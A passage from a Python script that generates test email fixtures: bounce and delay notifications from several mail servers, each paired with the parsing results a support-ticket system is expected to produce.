From: {DESK_NAME} <{DESK}>
To: m.ruiz@contoso-retail.example.com
Subject: [TD-000139] Your complaint has been resolved
Date: Wed, 2 Dec 2026 09:12:40 +0000
Message-ID: {outbox_id(119)}
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"

Dear Ms Ruiz, your complaint has been resolved.

--ab1c2d3e-4f5a-6b7c-8d9e-0f1a2b3c4d5e--
""",
        expect(
            client="Exchange Online NDR",
            sender="postmaster@contoso-retail.example.com",
            subject="Undeliverable: [TD-000139] Your complaint has been resolved",
            message_id="<4b5c6d7e-8f90-41a2-b3c4-d5e6f7a8b9c0@AM9P192MB0888.EURP192.PROD.OUTLOOK.EXAMPLE>",
            in_reply_to=(outbox_id(119),),
            text_starts="Your message to m.ruiz@contoso-retail.example.com",
            automated=True,
            html=True,
            bounce={
                "original_message_id": outbox_id(119),
                "recipient": "m.ruiz@contoso-retail.example.com",
                "status": "5.1.10",
                "reason_contains": "RecipientNotFound",
            },
            outcome="bounce",
            acknowledge=False,
            ticket="TD-000139",
        ),
    )

    add(
        "dsn_gmail.eml",
        f"""\
Delivered-To: {DESK}
Return-Path: <>
From: Mail Delivery Subsystem <mailer-daemon@googlemail.example>
To: {DESK}
Auto-Submitted: auto-replied
Subject: Delivery Status Notification (Failure)
References: {outbox_id(120)}
In-Reply-To: {outbox_id(120)}
X-Failed-Recipients: ghost.user@example.com
Message-ID: <6561b2a0.050a0220.3c1d2.7a1bSMTPIN_ADDED_BROKEN@mx.googlemail.example>
Date: Thu, 03 Dec 2026 02:14:56 -0800 (PST)
MIME-Version: 1.0
Content-Type: multipart/report; boundary="00000000000011a2b3c4d5e6f708"; report-type=delivery-status

--00000000000011a2b3c4d5e6f708
Content-Type: multipart/related; boundary="000000000000223344556677889a"

--000000000000223344556677889a
Content-Type: multipart/alternative; boundary="0000000000003344556677889aab"

--0000000000003344556677889aab
Content-Type: text/plain; charset="UTF-8"


** Address not found **

Your message wasn't delivered to ghost.user@example.com because the address couldn't be found, or is unable to receive mail.

The response from the remote server was:
550 5.1.1 The email account that you tried to reach does not exist.

--0000000000003344556677889aab
Content-Type: text/html; charset="UTF-8"

<html><body><h1>Address not found</h1><p>Your message wasn't delivered to <b>ghost.user@example.com</b>.</p></body></html>

--0000000000003344556677889aab--

--000000000000223344556677889a--

--00000000000011a2b3c4d5e6f708
Content-Type: message/delivery-status

Reporting-MTA: dns; googlemail.example
Received-From-MTA: dns; mx1.ticketdesk.example
Arrival-Date: Thu, 03 Dec 2026 02:14:55 -0800 (PST)
X-Original-Message-ID: {outbox_id(120)}

Final-Recipient: rfc822; ghost.user@example.com
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.com. (192.0.2.20, the server for the domain example.com.)
Diagnostic-Code: smtp; 550-5.1.1 The email account that you tried to reach does not exist.
Last-Attempt-Date: Thu, 03 Dec 2026 02:14:56 -0800 (PST)

--00000000000011a2b3c4d5e6f708
Content-Type: text/rfc822-headers

Return-Path: <{DESK}>
From: {DESK_NAME} <{DESK}>
To: ghost.user@example.com
Subject: [TD-000140] Reply to your complaint
Date: Thu, 03 Dec 2026 10:14:50 +0000
Message-ID: {outbox_id(120)}
MIME-Version: 1.0

--00000000000011a2b3c4d5e6f708--
""",
        expect(
            client="Gmail DSN (text/rfc822-headers)",
            sender="mailer-daemon@googlemail.example",
            subject="Delivery Status Notification (Failure)",
            message_id="<6561b2a0.050a0220.3c1d2.7a1bSMTPIN_ADDED_BROKEN@mx.googlemail.example>",
            in_reply_to=(outbox_id(120),),
            text_starts="** Address not found **",
            automated=True,
            html=True,
            bounce={
                "original_message_id": outbox_id(120),
                "recipient": "ghost.user@example.com",
                "status": "5.1.1",
                "reason_contains": "does not exist",
            },
            outcome="bounce",
            acknowledge=False,
            ticket="TD-000140",
        ),
    )

    add(
        "dsn_delayed_warning.eml",
        f"""\
Return-Path: <>
Date: Fri,  4 Dec 2026 14:05:02 +0000 (UTC)
From: MAILER-DAEMON@ticketdesk.example (Mail Delivery System)
Subject: Delayed Mail (still being retried)
To: {DESK}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="4RDe45FgHiJ.1796392302/mx1.ticketdesk.example"
Message-Id: <20261204140502.4RDe45FgHiJ@mx1.ticketdesk.example>

--4RDe45FgHiJ.1796392302/mx1.ticketdesk.example
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx1.ticketdesk.example.

####################################################################
# THIS IS A WARNING ONLY.  YOU DO NOT NEED TO RESEND YOUR MESSAGE. #
####################################################################

Your message could not be delivered for more than 4 hour(s).
It will be retried until it is 5 day(s) old.

--4RDe45FgHiJ.1796392302/mx1.ticketdesk.example
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.ticketdesk.example

Final-Recipient: rfc822; slow.server@example.net
Action: delayed
Status: 4.4.1
Diagnostic-Code: X-Postfix; connect to mx.example.net[192.0.2.30]:25: Connection timed out
Will-Retry-Until: Wed,  9 Dec 2026 10:05:00 +0000 (UTC)

--4RDe45FgHiJ.1796392302/mx1.ticketdesk.example
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: {DESK_NAME} <{DESK}>
To: slow.server@example.net
Subject: [TD-000141] Reply to your complaint
Message-ID: {outbox_id(121)}

--4RDe45FgHiJ.1796392302/mx1.ticketdesk.example--
""",
        expect(
            client="Postfix delay warning (not a bounce)",
            sender="mailer-daemon@ticketdesk.example",
            subject="Delayed Mail (still being retried)",
            message_id="<20261204140502.4RDe45FgHiJ@mx1.ticketdesk.example>",
            text_starts="This is the mail system at host",
            automated=True,
            bounce=None,
            outcome="ignored_automatic",
            acknowledge=False,
            note="Action: delayed is a warning: the message may still arrive, nothing is marked bounced.",
        ),
    )

    add(
        "bounce_qmail.eml",
        f"""\
Return-Path: <>
Received: (qmail 20411 invoked for bounce); 5 Dec 2026 08:00:03 -0000
Date: 5 Dec 2026 08:00:03 -0000
From: MAILER-DAEMON@mail.oldhost.example.com
To: {DESK}
Subject: failure notice
Message-ID: <qmail-bounce-20411@mail.oldhost.example.com>

Hi. This is the qmail-send program at mail.oldhost.example.com.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<old.customer@oldhost.example.com>:
192.0.2.44 does not like recipient.
Remote host said: 550 5.2.1 Mailbox disabled for this recipient
Giving up on 192.0.2.44.

--- Below this line is a copy of the message.

Return-Path: <{DESK}>
Received: (qmail 20408 invoked from network); 5 Dec 2026 08:00:02 -0000
From: {DESK_NAME} <{DESK}>
To: old.customer@oldhost.example.com
Subject: [TD-000142] Your private link
Date: Sat, 05 Dec 2026 08:00:00 +0000
Message-ID: {outbox_id(122)}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Here is the private link to your complaint.
""",
        expect(
            client="qmail bounce (no DSN)",
            sender="mailer-daemon@mail.oldhost.example.com",
            subject="failure notice",
            message_id="<qmail-bounce-20411@mail.oldhost.example.com>",
            text_starts="Hi. This is the qmail-send program",
            automated=True,
            quoted=True,
            quoted_contains=("Here is the private link",),
            bounce={
                "original_message_id": outbox_id(122),
                "recipient": "old.customer@oldhost.example.com",
                "status": "5.2.1",
                "reason_contains": "Mailbox disabled",
            },
            outcome="bounce",
            acknowledge=False,
            ticket="TD-000142",
        ),
    )

    add(
        "bounce_exchange_legacy.eml",
        f"""\
From: System Administrator <postmaster@fabrikam.example.com>
To: {DESK}
Subject: Undeliverable: [TD-000143] Reply to your complaint
Date: Sun, 6 Dec 2026 11:30:00 +0100
Message-ID: <A1B2C3D4E5F6@mail.fabrikam.example.com>
MIME-Version: 1.0
X-MS-Has-Attach: yes
Content-Type: multipart/mixed;
	boundary="----_=_NextPart_001_01DB47A1.2B3C4D5E"

This is a multi-part message in MIME format.

------_=_NextPart_001_01DB47A1.2B3C4D5E
Content-Type: text/plain;
	charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

Your message did not reach some or all of the intended recipients.

      Subject:	[TD-000143] Reply to your complaint
      Sent:	06/12/2026 11:29

The following recipient(s) cannot be reached:

      p.sanders@fabrikam.example.com on 06/12/2026 11:30
            The e-mail account does not exist at the organization this message was sent to.
            <mail.fabrikam.example.com #5.1.1 smtp;550 5.1.1 User unknown>

------_=_NextPart_001_01DB47A1.2B3C4D5E
Content-Type: message/rfc822

From: {DESK_NAME} <{DESK}>
To: p.sanders@fabrikam.example.com
Subject: [TD-000143] Reply to your complaint
Date: Sun, 06 Dec 2026 10:29:00 +0000
Message-ID: {outbox_id(123)}
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"

Dear Mr Sanders, thank you for your patience.

------_=_NextPart_001_01DB47A1.2B3C4D5E--
""",
        expect(
            client="Exchange 2003 NDR (no DSN)",
            sender="postmaster@fabrikam.example.com",
            subject="Undeliverable: [TD-000143] Reply to your complaint",
            message_id="<A1B2C3D4E5F6@mail.fabrikam.example.com>",
            text_starts="Your message did not reach some or all of the intended recipients.",
            automated=True,
            text_contains=("The following recipient(s) cannot be reached",),
            files=(file("[TD-000143] Reply to your complaint.eml", "message/rfc822"),),
            forwarded=1,
            bounce={
                "original_message_id": outbox_id(123),
                "recipient": "p.sanders@fabrikam.example.com",
                "status": "5.1.1",
                "reason_contains": "User unknown",
            },
            outcome="bounce",
            acknowledge=False,
            ticket="TD-000143",
        ),
    )

    add(
        "bounce_163_chinese.eml",
        "\n".join(
            [
                "Return-Path: <>",
                "From: postmaster@163.example",
                f"To: {DESK}",
                f"Subject: {ew('系统退信', 'GBK')}",
                "Date: Mon, 7 Dec 2026 10:00:00 +0800",
                "Message-ID: <bounce-163-0707@163.example>",
                "MIME-Version: 1.0",
                'Content-Type: multipart/mixed; boundary="----=_Part_bounce_163"',
                "",
                "------=_Part_bounce_163",
                "Content-Type: text/plain; charset=GBK",
                "Content-Transfer-Encoding: base64",
                "",
                b64(
                    "您发送的邮件未能送达以下收件人：\r\nnot.exist@example.cn\r\n退信原因：550 5.1.1 用户不存在 (User not found)\r\n".encode(
                        "gbk"
                    )
                ),
                "------=_Part_bounce_163",
                "Content-Type: message/rfc822",
                "",
                f"From: {DESK_NAME} <{DESK}>",
                "To: not.exist@example.cn",
                "Subject: [TD-000144] Acknowledgement",
                f"Message-ID: {outbox_id(124)}",
                "Date: Mon, 07 Dec 2026 01:59:00 +0000",
                "",
                "We have received your complaint.",
                "",
                "------=_Part_bounce_163--",
                "",
            ]
        ),
        expect(
            client="163 Mail bounce (Chinese, no DSN)",
            sender="postmaster@163.example",
            subject="系统退信",
            message_id="<bounce-163-0707@163.example>",
            text_starts="您发送的邮件未能送达以下收件人：",
            automated=True,
            files=(file("[TD-000144] Acknowledgement.eml", "message/rfc822"),),
            forwarded=1,
            bounce={
                "original_message_id": outbox_id(124),
                "recipient": "not.exist@example.cn",
                "status": "5.1.1",
                "reason_contains": "用户不存在",
            },
            outcome="bounce",
            acknowledge=False,
            ticket="TD-000144",
        ),
    )


def main() -> None:
    for build in (
        gmail,
        outlook,
        apple_and_thunderbird,
        exchange_forward,
        chinese,
        big5_and_japanese,
        attachments,
        malformed,
        automated,
        bounces,
    ):
        build()
    names = [entry["file"] for entry in MANIFEST]
    assert len(names) == len(set(names)), "two messages share a file name"
    for old in HERE.glob("*.eml"):
        if old.name not in CORPUS:
            old.unlink()
    for name, data in CORPUS.items():
        (HERE / name).write_bytes(data)
    (HERE / "manifest.json").write_text(
        json.dumps(
            {"about": ABOUT, "desk_address": DESK, "messages": MANIFEST},
            ensure_ascii=False,
            indent=1,
        )
        + "\n",
        encoding="utf-8",
    )
    print(f"{len(CORPUS)} messages written to {HERE}")


if __name__ == "__main__":
    main()
